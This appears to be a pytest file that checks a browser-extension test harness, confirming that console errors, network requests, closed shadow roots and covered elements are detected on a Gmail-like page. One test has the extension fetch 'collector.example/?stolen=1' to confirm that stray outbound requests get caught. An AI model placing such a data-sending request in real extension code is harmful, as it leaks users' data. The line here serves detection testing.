"""The test infrastructure itself: what it is trusted to see, it sees. Else "nothing happened" would prove nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from .mails import MAIL_1
from .pages import GMAIL
from .session import Session, watched
from .tab import Shadow
from .waiting import until

pytestmark = pytest.mark.browser

ERRORS = {
    "console": "() => console.error('seen 1')",
    "exception": "() => { setTimeout(() => { throw new Error('seen 2'); }); }",
    "rejection": "() => { Promise.reject(new Error('seen 3')); }",
}


def test_complaints_are_seen(unwatched_session: Session) -> None:
    session = unwatched_session
    for source, run in (("extension page", session.browser.control), ("web page", session.list(GMAIL).evaluate)):
        for kind, function in ERRORS.items():
            before = len(session.browser.complaints())
            run(function)
            text = f"seen {[*ERRORS].index(kind) + 1}"
            until(
                lambda before=before, text=text: [
                    complaint for complaint in session.browser.complaints()[before:] if text in complaint.text
                ],
                f"{kind} of the {source}",
            )
    with pytest.raises(AssertionError, match="errors in a console"), watched(session):
        before = len(session.browser.complaints())
        session.browser.control(ERRORS["console"])
        until(lambda: len(session.browser.complaints()) > before, "the error")


def test_requests_are_seen(unwatched_session: Session) -> None:
    session = unwatched_session
    mark = session.network.mark()
    session.browser.control("() => fetch('https://collector.example/?stolen=1', {mode: 'no-cors'}).catch(() => 0)")
    until(lambda: session.network.since(mark, "collector.example"), "the extension's request")
    assert session.strays(mark)


def test_closed_shadow_root_is_read_and_clicked(unwatched_session: Session, tmp_path: Path) -> None:
    page = unwatched_session.read(GMAIL, MAIL_1).page
    page.evaluate("""() => {
      const host = document.body.appendChild(document.createElement('test-host'));
      const root = host.attachShadow({mode: 'closed'});
      const button = root.appendChild(document.createElement('button'));
      button.textContent = 'closed';
      button.addEventListener('click', (event) => { button.dataset.clicked = event.isTrusted; });
    }""")
    assert page.evaluate("() => document.querySelector('test-host').shadowRoot") is None
    assert page.in_shadow("test-host", "(root) => root.textContent") == "closed"
    assert page.in_shadow("body", "(root) => root.textContent") is None
    page.click(Shadow("test-host", "button"))
    assert page.in_shadow("test-host", "(root) => root.querySelector('button').dataset.clicked") == "true"
    page.screenshot(tmp_path / "page.png")
    assert (tmp_path / "page.png").read_bytes().startswith(b"\x89PNG")


def test_covered_element_is_not_clicked(unwatched_session: Session) -> None:
    page = unwatched_session.list(GMAIL)
    page.evaluate("() => document.body.append(Object.assign(document.createElement('dialog'), {id: 'over'}))")
    page.evaluate("() => document.querySelector('#over').showModal()")
    with pytest.raises(AssertionError, match="covered"):
        page.click("[data-open=mail_1]")
